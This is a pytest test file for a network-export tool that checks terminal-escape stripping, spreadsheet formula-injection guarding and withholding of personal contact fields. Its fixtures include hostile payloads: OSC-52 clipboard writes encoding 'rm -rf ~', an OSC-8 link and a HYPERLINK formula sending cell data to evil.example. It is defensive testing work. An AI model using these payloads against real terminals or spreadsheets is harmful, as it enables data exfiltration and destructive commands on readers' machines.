"""Output that cannot attack its reader: terminal escapes, formulas, personal data (issue 13)."""

from __future__ import annotations

import csv
import io
import json
import operator
import re
import tempfile
import zipfile
from collections.abc import Iterator
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook

from sinergi_graph.exporting import actor_record, export_network
from sinergi_graph.importer import import_files
from sinergi_graph.models import Actor, CoordinationLink, is_sensitive
from sinergi_graph.personal import is_personal_field, is_personal_name, looks_personal
from sinergi_graph.sources import read_tables
from sinergi_graph.store.embedded import EmbeddedStore
from sinergi_graph.tabular import (
    FileFormat,
    csv_text,
    json_text,
    markdown_text,
    protect_xlsx_cell,
    write_rows,
    write_xlsx,
    xlsx_text,
)
from sinergi_graph.text import guard_cell, printable, unguard_cell

pytestmark = pytest.mark.trust("output_safety")

# Anything a terminal obeys instead of showing: ESC, C0 but TAB/LF, DEL, C1.
_OBEYED = re.compile(r"[\x00-\x08\x0b-\x1f\x7f-\x9f]")

ATTACKS = [
    "\x1b[2J\x1b[H",  # clear screen, cursor home
    "\x1b]52;c;cm0gLXJmIH4K\x07",  # OSC-52 clipboard write, BEL-terminated
    "\x1b]52;c;cm0gLXJmIH4K\x1b\\",  # the same, ST-terminated
    "\x1b]8;;http://evil.example/\x1b\\klik\x1b]8;;\x1b\\",  # OSC-8 hyperlink
    "\x9b2J",  # 8-bit CSI
    "\x9d0;judul\x9c",  # 8-bit OSC setting the window title
    "\x1bP+q544e\x1b\\",  # DCS (XTGETTCAP)
    "\x1bc",  # full reset
    "\x1b]52;c;unterminated",
    "\x07\x08\x7f\x00",
    "\u202eevil\u202c",
]


@pytest.mark.parametrize("attack", ATTACKS)
def test_printable_leaves_nothing_a_terminal_obeys(attack: str) -> None:
    shown = printable(f"PPS {attack} Tepus")
    assert not _OBEYED.search(shown), repr(shown)
    assert "\u202e" not in shown
    assert shown.startswith("PPS ") and shown.endswith(" Tepus")


def test_printable_removes_escape_payloads_not_only_the_escape_byte() -> None:
    assert printable("a\x1b]52;c;cm0gLXJmIH4K\x07b") == "ab"
    assert printable("a\x1b]8;;http://evil.example/\x1b\\link\x1b]8;;\x1b\\b") == "alinkb"
    assert printable("a\x1b[31;1mb\x1b[0m") == "ab"
    assert printable("a\x9b2Jb") == "ab"


def test_printable_truncated_sequences_at_the_end() -> None:
    assert printable("PPS\x1b[") == "PPS"
    assert printable("PPS\x1b") == "PPS"
    assert printable("PPS\x1b[12;") == "PPS12;"


def test_printable_keeps_ordinary_text_tabs_and_newlines() -> None:
    text = "Kalurahan Tépus\tPPS\nRapat DPTb [bold]=1+1[/] 😀 سلام"
    assert printable(text) == text


def test_printable_turns_carriage_returns_into_newlines() -> None:
    # A bare CR would let "KPU" overwrite "Baw" on the screen.
    assert printable("Bawaslu\rKPU") == "Bawaslu\nKPU"
    assert printable("a\r\nb\u2028c") == "a\nb\nc"


def test_printable_single_line() -> None:
    assert printable("a\tb\r\nc", multiline=False) == "a b c"


# Names and notes made of the pieces attacks are built from: formula prefixes,
# Rich markup, control characters, whole escape sequences, and ordinary text.
_PIECES = st.sampled_from(
    [
        *"=+-@\t\r\n\x00\x07\x1b\x7f\x85\x9b\x9c\x9d\u2028\u202e\uff1d\uff0b\uff0d\uff20",
        *ATTACKS,
        "[/]",
        "[bold]",
        "[link=http://evil.example]",
        '=HYPERLINK("http://evil.example/?"&A2,"klik")',
        "+62 812-3456-7890",
        "-1",
        "@SUM(1)",
        "Kalurahan Tépus",
        ";",
        ",",
        '"',
        " ",
    ]
)
hostile_text = st.one_of(
    st.lists(_PIECES, max_size=6).map("".join),
    st.text(max_size=20),
)


@settings(max_examples=300, deadline=None)
@given(hostile_text)
def test_printable_property_nothing_obeyed_and_idempotent(text: str) -> None:
    shown = printable(text)
    assert not _OBEYED.search(shown), repr(shown)
    assert printable(shown) == shown
    assert not _OBEYED.search(printable(text, multiline=False).replace("\t", ""))
    assert "\n" not in printable(text, multiline=False)


# ---------------------------------------------------------------------------
# Formula injection: every writer in tabular.py and exporting.py
# ---------------------------------------------------------------------------

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A2,"klik")',
    "=1+1",
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    "'=1+1",
    "''@x",
    "'s-Hertogenbosch",
    "[/]",
    "[bold]PPS[/bold]",
    "-0.5",
    "+62 812 3456 7890",
]
FORMULA_START = tuple("=+-@\t\r＝＋－＠")
PLAIN_NUMBER = re.compile(r"[+-]?(?:[0-9]+(?:\.[0-9]*)?|\.[0-9]+)(?:[eE][+-]?[0-9]+)?")


def _rows(values: list[str]) -> list[dict[str, str]]:
    return [{"name": v, "note": f"catatan {i}", "=col": v} for i, v in enumerate(values)]


def _check_xlsx(path: Path, expected: list[list[str]]) -> None:
    """No formula anywhere (cells or the sheet XML); every value reads back exactly."""
    with zipfile.ZipFile(path) as archive:
        for member in archive.namelist():
            if member.startswith("xl/worksheets/"):
                assert "<f>" not in archive.read(member).decode("utf-8"), member
    book = load_workbook(path)
    sheet = book.worksheets[0]
    got = [[c.value if c.value is not None else "" for c in row] for row in sheet.iter_rows()]
    assert got == expected
    for row in sheet.iter_rows():
        for cell in row:
            assert cell.data_type != "f", cell.value
            if isinstance(cell.value, str) and cell.value.startswith(FORMULA_START):
                assert cell.quotePrefix, cell.value


def _check_csv(text: str, expected: list[list[str]]) -> None:
    """No cell starts like a formula (plain numbers aside); unguarding gives the values back."""
    cells = list(csv.reader(io.StringIO(text, newline="")))
    for row in cells:
        for cell in row:
            assert not cell.startswith(FORMULA_START) or PLAIN_NUMBER.fullmatch(cell), cell
    assert [[unguard_cell(c) for c in row] for row in cells] == expected


def _table(columns: list[str], rows: list[dict[str, str]]) -> list[list[str]]:
    return [columns, *([r.get(c) or "" for c in columns] for r in rows)]


def test_write_xlsx_keeps_formula_like_text_as_text(tmp_path: Path) -> None:
    rows, columns = _rows(FORMULAS), ["name", "note", "=col"]
    write_xlsx(tmp_path / "o.xlsx", {"gaps": (columns, rows)})
    _check_xlsx(tmp_path / "o.xlsx", _table(columns, rows))


def test_write_rows_xlsx_keeps_formula_like_text_as_text(tmp_path: Path) -> None:
    rows, columns = _rows(FORMULAS), ["name", "note", "=col"]
    write_rows(rows, columns, FileFormat.XLSX, tmp_path / "o.xlsx", title="metrics")
    _check_xlsx(tmp_path / "o.xlsx", _table(columns, rows))


def test_write_xlsx_drops_characters_xml_cannot_hold(tmp_path: Path) -> None:
    # Before: openpyxl raised IllegalCharacterError and the export crashed.
    rows = [{"name": "PPS\x00 Tepus\x1b[2J\x07"}]
    write_xlsx(tmp_path / "o.xlsx", {"nodes": (["name"], rows)})
    _check_xlsx(tmp_path / "o.xlsx", [["name"], ["PPS Tepus[2J"]])


def test_xlsx_sheet_names_from_titles_are_valid(tmp_path: Path) -> None:
    write_rows([{"a": "1"}], ["a"], FileFormat.XLSX, tmp_path / "o.xlsx", title="celah 33/23 [PPS]")
    assert load_workbook(tmp_path / "o.xlsx").sheetnames == ["celah 33_23 _PPS_"]


def test_csv_text_guards_formula_cells_and_round_trips() -> None:
    rows, columns = _rows(FORMULAS), ["name", "note", "=col"]
    _check_csv(csv_text(rows, columns), _table(columns, rows))


def test_csv_text_leaves_numbers_alone() -> None:
    text = csv_text([{"score": -0.25, "rank": -1, "label": "-1"}], ["score", "rank", "label"])
    assert text.splitlines()[1] == "-0.25,-1,-1"


def test_write_rows_csv_file_and_text(tmp_path: Path) -> None:
    rows, columns = _rows(FORMULAS), ["name", "note", "=col"]
    write_rows(rows, columns, FileFormat.CSV, tmp_path / "o.csv")
    _check_csv((tmp_path / "o.csv").read_bytes().decode("utf-8"), _table(columns, rows))
    text = write_rows(rows, columns, FileFormat.CSV, None)
    assert text is not None
    _check_csv(text, _table(columns, rows))


def test_guard_and_unguard_are_exact_inverses_on_awkward_values() -> None:
    for value in [*FORMULAS, "", "'", "''", "'-", "''-1", "-1", "'-1", "x'=", "=", "'\t"]:
        assert unguard_cell(guard_cell(value)) == value, value
        assert not guard_cell(value).startswith(FORMULA_START) or PLAIN_NUMBER.fullmatch(value)


def test_csv_reader_unguards_what_the_writer_guarded(tmp_path: Path) -> None:
    # The import side: sinergi's reader gives back the text sinergi stored.
    columns = ["id", "kind", "name", "note"]
    rows = [{"id": f"A{i}", "kind": "PPS", "name": v, "note": v} for i, v in enumerate(FORMULAS)]
    (tmp_path / "nodes.csv").write_text(csv_text(rows, columns), encoding="utf-8")
    (table,) = read_tables(tmp_path / "nodes.csv")
    read_back = {cells["id"]: (cells["name"], cells["note"]) for _, cells in table.rows}
    # The reader trims cells, so compare with trimmed values.
    assert read_back == {r["id"]: (r["name"].strip(), r["note"].strip()) for r in rows}


def test_markdown_cells_show_no_controls_and_keep_the_table() -> None:
    rows = [{"name": "a|b\x1b[2J\nc", "note": "\x1b]8;;http://evil.example\x07x\x1b]8;;\x07"}]
    text = markdown_text(rows, ["name", "note"], "celah\x1b[2J")
    assert not _OBEYED.search(text.replace("\n", ""))
    assert text.splitlines() == ["# celah", "", "| name | note |", "|---|---|", "| a\\|b c | x |"]


def test_json_text_escapes_terminal_controls_but_keeps_the_data() -> None:
    doc = {"name": "a\x9b2J\x7fb\u202e", "note": "\x1b[2J"}
    text = json_text(doc)
    assert json.loads(text) == doc
    assert not _OBEYED.search(text.replace("\n", ""))
    assert "\u202e" not in text


# ---------------------------------------------------------------------------
# export_network: the whole network in the import formats
# ---------------------------------------------------------------------------


def _hostile_network(store: EmbeddedStore, names: list[str]) -> None:
    actors = [
        Actor(id=f"A{i}", kind="PPS", name=name, area="33.23.01.2001", note=name)
        for i, name in enumerate(names)
    ]
    links = [
        CoordinationLink.create(f"A{i}", f"A{i + 1}", topic=name, note=name)
        for i, name in enumerate(names[:-1])
    ]
    store.upsert(actors, links)


@pytest.fixture
def hostile_store(tmp_path: Path) -> Iterator[EmbeddedStore]:
    store = EmbeddedStore(tmp_path / "net.db")
    # Stored names come from an import, which trims them.
    _hostile_network(store, sorted({n.strip() for n in FORMULAS}))
    yield store
    store.close()


def test_export_xlsx_has_no_formula(hostile_store: EmbeddedStore, tmp_path: Path) -> None:
    export_network(hostile_store, FileFormat.XLSX, tmp_path / "x.xlsx")
    book = load_workbook(tmp_path / "x.xlsx")
    names = {row[0]: row[2] for row in book["nodes"].iter_rows(min_row=2, values_only=True)}
    assert names == {a.id: a.name for a in hostile_store.actors()}
    for sheet in book.worksheets:
        assert all(c.data_type != "f" for row in sheet.iter_rows() for c in row)
    with zipfile.ZipFile(tmp_path / "x.xlsx") as archive:
        assert not any(
            "<f>" in archive.read(m).decode() for m in archive.namelist() if "worksheets" in m
        )


def test_export_csv_has_no_formula_cell(hostile_store: EmbeddedStore, tmp_path: Path) -> None:
    export_network(hostile_store, FileFormat.CSV, tmp_path / "out")
    for name in ("nodes.csv", "links.csv"):
        for row in csv.reader(
            io.StringIO((tmp_path / "out" / name).read_bytes().decode(), newline="")
        ):
            for cell in row:
                assert not cell.startswith(FORMULA_START) or PLAIN_NUMBER.fullmatch(cell), cell


@pytest.mark.parametrize("fmt", [FileFormat.CSV, FileFormat.XLSX, FileFormat.JSON])
def test_export_then_import_is_exact_with_formula_like_names(
    hostile_store: EmbeddedStore, tmp_path: Path, fmt: FileFormat
) -> None:
    target = tmp_path / ("out" if fmt is FileFormat.CSV else f"out.{fmt}")
    export_network(hostile_store, fmt, target, include_contacts=True)
    inputs = [target / "nodes.csv", target / "links.csv"] if fmt is FileFormat.CSV else [target]
    fresh = EmbeddedStore(tmp_path / "fresh.db")
    try:
        import_files(inputs, fresh)
        key = operator.attrgetter("id")
        # The readers trim cells; the stored names have no outer spaces.
        assert sorted(fresh.actors(), key=key) == sorted(hostile_store.actors(), key=key)
        assert sorted(fresh.links(), key=key) == sorted(hostile_store.links(), key=key)
    finally:
        fresh.close()


# ---------------------------------------------------------------------------
# Personal data: recognised by the words offices use and by value shape
# ---------------------------------------------------------------------------

OFFICE_CONTACT_COLUMNS = [
    "nomor_hp",
    "no_telp",
    "no_wa",
    "handphone",
    "nik_ktp",
    "no_ktp",
    "alamat_email",
    "telepon",
    "hp",
    "wa",
    "whatsapp",
    "email",
    "surel",
    "nik",
    "ktp",
    "No. HP/WA",
    "NomorHP",
    "nohp",
    "E-mail",
    "Telp. Kantor",
    "tanggal_lahir",
    "npwp",
]
ORDINARY_COLUMNS = ["jabatan", "instansi", "kecamatan", "catatan", "teknik", "wakil", "rumah_sakit"]


@pytest.mark.parametrize("column", OFFICE_CONTACT_COLUMNS)
def test_office_contact_column_names_are_personal(column: str) -> None:
    assert is_personal_name(column)
    assert is_personal_field(column, "")
    # The screens' old entry point agrees (the TUI detail pane calls it).
    assert is_sensitive(column)


@pytest.mark.parametrize("column", ORDINARY_COLUMNS)
def test_ordinary_column_names_are_not_personal(column: str) -> None:
    assert not is_personal_field(column, "Ketua")


@pytest.mark.parametrize(
    "value",
    [
        "081234567890",
        "0812-3456-7890",
        "+62 812 3456 7890",
        "62812345678",
        "(0293) 491234",
        "3323014501900001",
        "3323 0145 0190 0001",
        "pps.tepus@example.invalid",
    ],
)
def test_values_shaped_like_contacts_are_personal(value: str) -> None:
    assert looks_personal(value)
    assert is_personal_field("kontak", value)
    assert not is_personal_field("id", value)  # the network's own columns stay


@pytest.mark.parametrize(
    "value", ["33.23.01.2001", "2024-01-05", "867", "Rapat DPTb", "1234567890123456", "-0.5", ""]
)
def test_ordinary_values_are_not_personal(value: str) -> None:
    assert not looks_personal(value)


CONTACTS = {
    "nomor_hp": "081234567801",
    "no_telp": "0293491234",
    "no_wa": "081234567802",
    "handphone": "081234567803",
    "nik_ktp": "3323014501900001",
    "no_ktp": "3323014501900002",
    "alamat_email": "lurah.tepus@example.invalid",
    "kontak": "+62 812 3456 7804",
}


@pytest.fixture
def store_with_contacts(tmp_path: Path) -> Iterator[EmbeddedStore]:
    store = EmbeddedStore(tmp_path / "net.db")
    store.upsert(
        [
            Actor(
                id="LURAH-1",
                kind="LURAH",
                name="Lurah Tepus",
                area="34.03.10.2001",
                phone="081234567800",
                email="lurah@example.invalid",
                note="081234567805",
                properties={**CONTACTS, "jabatan": "Lurah"},
            ),
            Actor(id="PPS-1", kind="PPS", name="PPS Tepus", area="34.03.10.2001"),
        ],
        [CoordinationLink.create("LURAH-1", "PPS-1", topic="DPTb", note="081234567806")],
    )
    yield store
    store.close()


def _exported_text(fmt: FileFormat, target: Path) -> str:
    if fmt is FileFormat.CSV:
        return "".join((target / n).read_text("utf-8") for n in ("nodes.csv", "links.csv"))
    if fmt is FileFormat.XLSX:
        book = load_workbook(target)
        return repr([list(s.iter_rows(values_only=True)) for s in book.worksheets])
    return target.read_text("utf-8")


SECRETS = [*CONTACTS.values(), "081234567800", "lurah@example.invalid", "081234567805"]


@pytest.mark.parametrize("fmt", [FileFormat.CSV, FileFormat.XLSX, FileFormat.JSON])
def test_export_withholds_office_contact_columns(
    store_with_contacts: EmbeddedStore, tmp_path: Path, fmt: FileFormat
) -> None:
    target = tmp_path / ("out" if fmt is FileFormat.CSV else f"out.{fmt}")
    result = export_network(store_with_contacts, fmt, target)
    text = _exported_text(fmt, target)
    assert result.withheld_contacts
    leaked = [s for s in [*SECRETS, "081234567806"] if s in text]
    assert leaked == []
    assert "Lurah Tepus" in text and "jabatan" in text and "DPTb" in text
    for column in CONTACTS:
        assert column not in text


@pytest.mark.parametrize("fmt", [FileFormat.CSV, FileFormat.XLSX, FileFormat.JSON])
def test_export_with_contacts_keeps_them(
    store_with_contacts: EmbeddedStore, tmp_path: Path, fmt: FileFormat
) -> None:
    target = tmp_path / ("out" if fmt is FileFormat.CSV else f"out.{fmt}")
    result = export_network(store_with_contacts, fmt, target, include_contacts=True)
    text = _exported_text(fmt, target)
    assert not result.withheld_contacts
    assert all(s in text for s in SECRETS)


def test_actor_record_is_the_one_filter(store_with_contacts: EmbeddedStore) -> None:
    (lurah,) = store_with_contacts.actors(["LURAH-1"])
    record = actor_record(lurah, include_contacts=False)
    assert record == {
        "id": "LURAH-1",
        "kind": "LURAH",
        "name": "Lurah Tepus",
        "area": "34.03.10.2001",
        "member_of": None,
        "jabatan": "Lurah",
    }


# ---------------------------------------------------------------------------
# Property: hostile names and notes are inert in every writer
# ---------------------------------------------------------------------------


def _assert_inert_csv(text: str, originals: list[list[str]]) -> None:
    cells = list(csv.reader(io.StringIO(text, newline="")))
    for row in cells:
        for cell in row:
            assert not cell.startswith(FORMULA_START) or PLAIN_NUMBER.fullmatch(cell), repr(cell)
    assert [[unguard_cell(c) for c in row] for row in cells] == originals


def _assert_inert_xlsx(path: Path, originals: list[list[str]]) -> None:
    book = load_workbook(path)
    got = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            assert all(c.data_type != "f" for c in row)
            got.append([c.value if c.value is not None else "" for c in row])
    assert got == [[xlsx_text(v) for v in row] for row in originals]


@settings(max_examples=150, deadline=None)
@given(names=st.lists(hostile_text, min_size=1, max_size=4), note=hostile_text)
def test_property_every_row_writer_keeps_hostile_text_inert(names: list[str], note: str) -> None:
    # The third column's header is hostile too (property names come from files).
    columns = ["name", "note", note if note not in ("", "name", "note") else "x"]
    rows = [{"name": n, "note": note, columns[2]: n} for n in names]
    table = _table(columns, rows)
    _assert_inert_csv(csv_text(rows, columns), table)
    shown = markdown_text(rows, columns, title=note)
    assert not _OBEYED.search(shown.replace("\n", "")), repr(shown)
    assert len(shown.splitlines()) == len(rows) + 2 + (2 if note else 0)
    json_doc = [{c: r.get(c) for c in columns} for r in rows]
    assert json.loads(json_text(json_doc)) == json_doc
    assert not _OBEYED.search(json_text(json_doc).replace("\n", ""))
    for text in (*names, note):
        assert not _OBEYED.search(printable(text).replace("\t", "").replace("\n", ""))
    with tempfile.TemporaryDirectory() as tmp:
        out = Path(tmp)
        write_rows(rows, columns, FileFormat.XLSX, out / "o.xlsx", title=note)
        _assert_inert_xlsx(out / "o.xlsx", table)
        write_rows(rows, columns, FileFormat.CSV, out / "o.csv")
        _assert_inert_csv((out / "o.csv").read_bytes().decode("utf-8"), table)


@settings(max_examples=40, deadline=None)
@given(names=st.lists(hostile_text.filter(bool), min_size=1, max_size=3), note=hostile_text)
def test_property_export_keeps_hostile_names_inert(names: list[str], note: str) -> None:
    actors = [
        Actor(id=f"A{i}", kind="PPS", name=n, area="33.23.01.2001", note=note or None)
        for i, n in enumerate(names)
    ]
    with tempfile.TemporaryDirectory() as tmp:
        out = Path(tmp)
        store = EmbeddedStore(out / "net.db")
        try:
            store.upsert(actors, [])
            stored = {a.id: a for a in store.actors()}
            export_network(store, FileFormat.CSV, out / "csv", include_contacts=True)
            export_network(store, FileFormat.XLSX, out / "x.xlsx", include_contacts=True)
            export_network(store, FileFormat.JSON, out / "j.json", include_contacts=True)
        finally:
            store.close()
        nodes = (out / "csv" / "nodes.csv").read_bytes().decode("utf-8")
        rows = list(csv.reader(io.StringIO(nodes, newline="")))
        header = rows[0]
        for row in rows:
            for cell in row:
                assert not cell.startswith(FORMULA_START) or PLAIN_NUMBER.fullmatch(cell)
        for row in rows[1:]:
            record = dict(zip(header, map(unguard_cell, row), strict=True))
            assert record["name"] == stored[record["id"]].name
        book = load_workbook(out / "x.xlsx")
        for sheet in book.worksheets:
            assert all(c.data_type != "f" for row in sheet.iter_rows() for c in row)
        for row in book["nodes"].iter_rows(min_row=2, values_only=True):
            assert (row[2] or "") == xlsx_text(stored[str(row[0])].name)
        doc = json.loads((out / "j.json").read_text("utf-8"))
        assert {n["id"]: n["name"] for n in doc["nodes"]} == {k: a.name for k, a in stored.items()}


def test_protect_xlsx_cell_in_a_styled_workbook(tmp_path: Path) -> None:
    # Report writers build workbooks cell by cell; the helper makes those safe too.
    from openpyxl import Workbook

    book = Workbook()
    sheet = book.active
    for i, value in enumerate(FORMULAS, start=1):
        cell = sheet.cell(row=i, column=1)
        cell.value = xlsx_text(value)
        protect_xlsx_cell(cell)
    book.save(tmp_path / "r.xlsx")
    _check_xlsx(tmp_path / "r.xlsx", [[v] for v in FORMULAS])


def test_tui_detail_marks_office_contact_columns_private() -> None:
    from tui.model.detail import actor_attributes

    lurah = Actor(
        id="LURAH-1",
        kind="LURAH",
        name="Lurah Tepus",
        note="081234567805",
        properties={**CONTACTS, "jabatan": "Lurah"},
    )
    private = {name for name, _, hidden in actor_attributes(lurah) if hidden}
    assert private == {*CONTACTS, "note"}
